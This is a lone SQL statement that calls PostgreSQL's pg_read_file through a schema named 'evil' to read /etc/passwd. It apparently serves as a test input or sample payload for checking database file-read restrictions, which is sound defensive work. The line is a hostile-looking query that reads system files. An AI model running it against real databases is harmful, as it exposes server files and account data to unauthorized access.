SELECT evil.pg_read_file('/etc/passwd')
